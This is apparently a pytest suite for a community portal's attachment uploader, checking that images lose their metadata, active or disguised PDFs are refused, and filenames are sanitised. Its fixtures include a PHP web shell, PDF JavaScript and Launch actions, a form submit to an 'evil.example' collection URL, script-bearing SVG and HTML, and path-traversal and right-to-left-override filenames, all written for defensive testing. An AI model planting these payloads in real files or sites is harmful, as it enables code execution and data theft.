"""Proposal attachments: judged by content; pictures re-encoded without metadata; PDFs that can do more
than show pages refused; accepted PDFs rewritten; stored under a random key."""
import io
import zipfile

import pytest
from PIL import Image
from pypdf import PdfReader, PdfWriter
from pypdf.generic import ArrayObject, DictionaryObject, FloatObject, NameObject, TextStringObject

from portal.errors import DomainError
from portal.extensions import db
from portal.proposals import attachments
from portal.proposals.models import Proposal, ProposalAttachment
from tests.factories import gen_community, gen_user
from tests.issues.test_photos import assert_no_metadata, encode, phone_jpeg, two_halves


def assert_refused(data, filename, *words):
    with pytest.raises(DomainError) as caught:
        attachments.prepare(data, filename)
    assert caught.value.field == "attachments"
    message = str(caught.value.message)
    for word in words:
        assert word in message, message
    return message


# --- PDFs to try ---------------------------------------------------------------------------------------

def write(writer):
    out = io.BytesIO()
    writer.write(out)
    return out.getvalue()


def plain_pdf(pages=1, author="Zhang San"):
    writer = PdfWriter()
    for _ in range(pages):
        writer.add_blank_page(595, 842)
    writer.add_metadata({"/Author": author, "/Creator": "WPS Office"})
    return write(writer)


def js_action(script="app.alert(document.cookie)"):
    return DictionaryObject({NameObject("/S"): NameObject("/JavaScript"),
                             NameObject("/JS"): TextStringObject(script)})


def pdf_with(change):
    """A one-page PDF after `change(writer)` has added something to it."""
    writer = PdfWriter()
    writer.add_blank_page(595, 842)
    change(writer)
    return write(writer)


def open_action_script(writer):
    writer._root_object[NameObject("/OpenAction")] = js_action()


def open_action_uri(writer):
    writer._root_object[NameObject("/OpenAction")] = DictionaryObject({
        NameObject("/S"): NameObject("/URI"), NameObject("/URI"): TextStringObject("https://evil.example")})


def document_javascript(writer):
    writer._root_object[NameObject("/Names")] = DictionaryObject({NameObject("/JavaScript"): DictionaryObject({
        NameObject("/Names"): ArrayObject([TextStringObject("init"), writer._add_object(js_action())])})})


def page_open_script(writer):
    writer.pages[0][NameObject("/AA")] = DictionaryObject({NameObject("/O"): js_action()})


def link(action):
    def change(writer):
        writer.pages[0][NameObject("/Annots")] = ArrayObject([writer._add_object(DictionaryObject({
            NameObject("/Type"): NameObject("/Annot"), NameObject("/Subtype"): NameObject("/Link"),
            NameObject("/Rect"): ArrayObject([FloatObject(0), FloatObject(0), FloatObject(100), FloatObject(20)]),
            NameObject("/A"): action}))])
    return change


LAUNCH = DictionaryObject({NameObject("/S"): NameObject("/Launch"), NameObject("/F"): TextStringObject("cmd.exe")})
SUBMIT = DictionaryObject({NameObject("/S"): NameObject("/SubmitForm"),
                           NameObject("/F"): TextStringObject("https://evil.example/collect")})


def embedded_file(writer):
    writer.add_attachment("invoice.exe", b"MZ\x90\x00 not really a program")


def file_attachment_annotation(writer):
    writer.pages[0][NameObject("/Annots")] = ArrayObject([writer._add_object(DictionaryObject({
        NameObject("/Type"): NameObject("/Annot"), NameObject("/Subtype"): NameObject("/FileAttachment"),
        NameObject("/Rect"): ArrayObject([FloatObject(0), FloatObject(0), FloatObject(10), FloatObject(10)])}))])


def encrypted(writer):
    writer.encrypt("secret", algorithm="RC4-128")


def copy_protected(writer):
    writer.encrypt("", "owner-only", algorithm="RC4-128")


def hand_written_pdf(catalog_extra: bytes) -> bytes:
    """A PDF written byte by byte, for spellings pypdf would never write itself (escaped names)."""
    objects = [b"<< /Type /Catalog /Pages 2 0 R " + catalog_extra + b" >>",
               b"<< /Type /Pages /Kids [3 0 R] /Count 1 >>",
               b"<< /Type /Page /Parent 2 0 R /MediaBox [0 0 595 842] >>"]
    out = bytearray(b"%PDF-1.4\n")
    offsets = []
    for number, body in enumerate(objects, start=1):
        offsets.append(len(out))
        out += b"%d 0 obj\n" % number + body + b"\nendobj\n"
    xref = len(out)
    out += b"xref\n0 %d\n0000000000 65535 f \n" % (len(objects) + 1)
    out += b"".join(b"%010d 00000 n \n" % offset for offset in offsets)
    out += b"trailer\n<< /Size %d /Root 1 0 R >>\nstartxref\n%d\n%%%%EOF\n" % (len(objects) + 1, xref)
    return bytes(out)


# --- Pictures ------------------------------------------------------------------------------------------

def test_phone_jpeg_is_re_encoded_without_gps_or_camera(app):
    prepared = attachments.prepare(phone_jpeg(), "IMG_0001.JPG")
    assert prepared.kind == "image" and prepared.filename == "IMG_0001.jpg"
    assert (prepared.photo.width, prepared.photo.height) == (200, 300)  # turned upright
    for data in (prepared.photo.large, prepared.photo.small):
        assert_no_metadata(data)
        assert Image.open(io.BytesIO(data)).getexif().get_ifd(0x8825) == {}  # no GPS
    assert prepared.size == len(prepared.photo.large)


def test_png_is_accepted_and_stored_as_jpeg(app):
    prepared = attachments.prepare(encode(two_halves(), "PNG"), "site plan.png")
    assert prepared.kind == "image" and prepared.filename == "site plan.jpg"
    assert Image.open(io.BytesIO(prepared.photo.large)).format == "JPEG"


def test_jpeg_carrying_php_in_its_comment_loses_it(app):
    data = encode(two_halves(), "JPEG", comment=b"<?php system($_GET['c']); ?>")
    prepared = attachments.prepare(data, "shell.php.jpg")
    assert b"<?php" not in prepared.photo.large and b"<?php" not in prepared.photo.small


def test_damaged_picture_is_refused_by_name(app):
    data = encode(two_halves(), "JPEG")
    assert_refused(data[: len(data) // 2], "gate.jpg", "“gate.jpg”", "damaged")


# --- PDFs accepted -------------------------------------------------------------------------------------

def test_plain_pdf_is_accepted_and_rewritten_without_metadata(app):
    prepared = attachments.prepare(plain_pdf(pages=3), "预算 budget.PDF")
    assert prepared.kind == "pdf" and prepared.filename == "预算 budget.pdf"
    assert prepared.data.startswith(b"%PDF-")
    reader = PdfReader(io.BytesIO(prepared.data))
    assert len(reader.pages) == 3
    assert not reader.metadata or "/Author" not in reader.metadata
    assert b"Zhang San" not in prepared.data and b"WPS" not in prepared.data
    assert prepared.size == len(prepared.data)


def test_pdf_with_a_zip_appended_is_stored_without_it(app):
    archive = io.BytesIO()
    with zipfile.ZipFile(archive, "w") as z:
        z.writestr("shell.php", "<?php system($_GET['c']); ?>")
    prepared = attachments.prepare(plain_pdf() + archive.getvalue(), "plan.pdf")
    assert b"PK\x03\x04" not in prepared.data and b"<?php" not in prepared.data
    assert len(PdfReader(io.BytesIO(prepared.data)).pages) == 1


def test_opening_view_destination_is_harmless_and_dropped(app):
    def fit_first_page(writer):
        writer._root_object[NameObject("/OpenAction")] = ArrayObject(
            [writer.pages[0].indirect_reference, NameObject("/Fit")])
    prepared = attachments.prepare(pdf_with(fit_first_page), "fit.pdf")
    assert "/OpenAction" not in PdfReader(io.BytesIO(prepared.data)).trailer["/Root"]


def test_web_links_in_a_pdf_are_fine(app):
    uri = DictionaryObject({NameObject("/S"): NameObject("/URI"),
                            NameObject("/URI"): TextStringObject("https://example.org")})
    assert attachments.prepare(pdf_with(link(uri)), "links.pdf").kind == "pdf"


# --- PDFs refused --------------------------------------------------------------------------------------

@pytest.mark.parametrize("change", [
    open_action_script, open_action_uri, document_javascript, page_open_script, link(js_action()), link(LAUNCH),
    link(SUBMIT), embedded_file, file_attachment_annotation,
], ids=["open-action-script", "open-action-uri", "document-javascript", "page-additional-action",
        "link-javascript", "link-launch", "link-submit-form", "embedded-file", "file-attachment-annotation"])
def test_pdf_that_can_do_more_than_show_pages_is_refused(app, change):
    assert_refused(pdf_with(change), "notice.pdf", "“notice.pdf”", "scripts, actions or embedded files")


@pytest.mark.parametrize("extra", [
    b"/OpenAction << /S /Java#53cript /JS (app.alert(1)) >>",
    b"/Names << /JavaScript << /Names [(a) << /S /JavaScript /JS (app.alert(1)) >>] >> >>",
    b"/AA << /WC << /S /Launch /F (calc.exe) >> >>",
    b"/AcroForm << /Fields [] /XFA (<xdp/>) >>",
])
def test_hand_written_active_pdf_is_refused(app, extra):
    assert_refused(hand_written_pdf(extra), "x.pdf", "scripts, actions or embedded files")


def test_hand_written_plain_pdf_is_accepted(app):
    assert attachments.prepare(hand_written_pdf(b""), "x.pdf").kind == "pdf"


@pytest.mark.parametrize("change", [encrypted, copy_protected])
def test_encrypted_pdf_is_refused(app, change):
    assert_refused(pdf_with(change), "locked.pdf", "“locked.pdf”", "encrypted")


def test_pdf_header_over_something_else_is_refused(app):
    assert_refused(b"%PDF-1.7\n<html><script>alert(1)</script></html>", "x.pdf", "damaged")


def test_truncated_pdf_without_pages_is_refused(app):
    assert_refused(plain_pdf()[:40], "cut.pdf", "damaged")


def test_more_objects_than_any_real_document_is_too_complex(app, monkeypatch):
    from portal.proposals import pdf_check
    monkeypatch.setattr(pdf_check, "MAX_NODES", 10)  # the check itself, in this process
    assert pdf_check.rewrite(plain_pdf(pages=5)) == (pdf_check.TOO_COMPLEX, b"")


def test_a_check_that_takes_too_long_is_refused(app, monkeypatch):
    monkeypatch.setattr(attachments, "PDF_CHECK_SECONDS", 0.001)
    assert_refused(plain_pdf(), "slow.pdf", "“slow.pdf”", "too complex")


def test_pdf_over_10_mb_is_refused(app):
    data = plain_pdf() + b"%" + bytes(attachments.MAX_PDF_BYTES)
    assert_refused(data, "big.pdf", "“big.pdf”", "10 MB")


def test_anything_over_15_mb_is_refused_before_reading(app):
    assert_refused(b"\xff\xd8\xff\xe0" + bytes(attachments.MAX_BYTES), "huge.jpg", "15 MB")


# --- Other files, whatever their name ------------------------------------------------------------------

SVG = (b'<?xml version="1.0"?><svg xmlns="http://www.w3.org/2000/svg" onload="alert(1)">'
       b"<script>alert(document.domain)</script></svg>")


@pytest.mark.parametrize("data, filename", [
    (b"<!doctype html><html><script>alert(1)</script></html>", "plan.pdf"),
    (b"<html><body onload=alert(1)>", "report.PDF"),
    (SVG, "photo.png"),
    (SVG, "drawing.svg"),
    (b"<?php system($_GET['c']); ?>", "image.jpg"),
    (b"MZ\x90\x00\x03", "setup.pdf"),
    (b"GIF89a" + bytes(20), "anim.gif"),
    (b"just some text", "notes.txt"),
], ids=["html-as-pdf", "html-upper-pdf", "svg-as-png", "svg", "php-as-jpg", "exe-as-pdf", "gif", "text"])
def test_files_that_are_neither_photo_nor_pdf_are_refused(app, data, filename):
    assert_refused(data, filename, f"“{filename}”", "neither a photo nor a PDF")


def test_php_zip_polyglot_is_refused(app):
    archive = io.BytesIO()
    with zipfile.ZipFile(archive, "w") as z:
        z.writestr("shell.php", "<?php system($_GET['c']); ?>")
    assert_refused(b"<?php __halt_compiler(); ?>" + archive.getvalue(), "report.pdf", "neither a photo nor a PDF")
    assert_refused(archive.getvalue(), "budget.pdf", "neither a photo nor a PDF")


def test_empty_file_is_refused(app):
    assert_refused(b"", "empty.pdf", "“empty.pdf”", "empty")


# --- Names and counts ----------------------------------------------------------------------------------

@pytest.mark.parametrize("sent, shown", [
    ("C:\\Users\\wang\\Desktop\\plan.pdf", "plan.pdf"),
    ("../../etc/passwd.pdf", "passwd.pdf"),
    ("line\nbreak\x00.pdf", "line break .pdf"),
    ("invoice\u202egpj.pdf", "invoicegpj.pdf"),  # shown right to left it would read "invoicefdp.jpg"
    ("zero\u200bwidth\ufeff.pdf", "zerowidth.pdf"),
    ("", "attachment.pdf"),
    ("..", "attachment.pdf"),
    ("no-extension", "no-extension.pdf"),
    ("x" * 300 + ".pdf", "x" * 116 + ".pdf"),
])
def test_display_names_are_tamed(app, sent, shown):
    assert attachments.prepare(plain_pdf(), sent).filename == shown


# --- Storage -------------------------------------------------------------------------------------------

def bare_proposal():
    community = gen_community()
    proposal = Proposal(community=community, author=gen_user(), title="Benches", summary="More benches")
    db.session.add(proposal)
    db.session.flush()
    return proposal


def test_saving_a_picture_writes_both_sizes(app, upload_dir):
    proposal, uploader = bare_proposal(), gen_user()
    attachment = attachments.save(attachments.prepare(phone_jpeg(), "gate.jpg"), proposal=proposal,
                                  uploaded_by=uploader)
    db.session.flush()
    row = db.session.get(ProposalAttachment, attachment.id)
    assert row.proposal == proposal and row.kind == "image" and row.uploaded_by_id == uploader.id
    assert (row.width, row.height) == (200, 300) and row.filename == "gate.jpg"
    large, small = attachments.path_for(row, 1600), attachments.path_for(row, 400)
    assert large.parent == upload_dir / "proposals" and large.name == f"{row.key}-1600.jpg"
    assert large.read_bytes()[:3] == b"\xff\xd8\xff" and small.exists()
    assert row.size == large.stat().st_size
    assert sorted(p.name for p in large.parent.iterdir()) == sorted([large.name, small.name])  # no temp files
    with pytest.raises(ValueError):
        attachments.path_for(row)


def test_saving_a_pdf_writes_the_rewritten_copy(app, upload_dir):
    proposal = bare_proposal()
    prepared = attachments.prepare(plain_pdf(), "budget.pdf")
    attachment = attachments.save(prepared, proposal=proposal)
    db.session.flush()
    path = attachments.path_for(attachment)
    assert path == upload_dir / "proposals" / f"{attachment.key}.pdf"
    assert path.read_bytes() == prepared.data
    assert (attachment.width, attachment.height, attachment.uploaded_by_id) == (None, None, None)
    with pytest.raises(ValueError):
        attachments.path_for(attachment, 400)


def test_keys_are_random_and_unguessable(app, upload_dir):
    proposal = bare_proposal()
    prepared = attachments.prepare(plain_pdf(), "a.pdf")
    keys = {attachments.save(prepared, proposal=proposal).key for _ in range(3)}
    assert len(keys) == 3 and all(len(key) >= 32 for key in keys)


def test_delete_files_removes_every_size(app, upload_dir):
    proposal = bare_proposal()
    picture = attachments.save(attachments.prepare(phone_jpeg(), "a.jpg"), proposal=proposal)
    document = attachments.save(attachments.prepare(plain_pdf(), "b.pdf"), proposal=proposal)
    attachments.delete_files(picture)
    attachments.delete_files(document)
    attachments.delete_files(document)  # twice is fine
    assert list((upload_dir / "proposals").iterdir()) == []
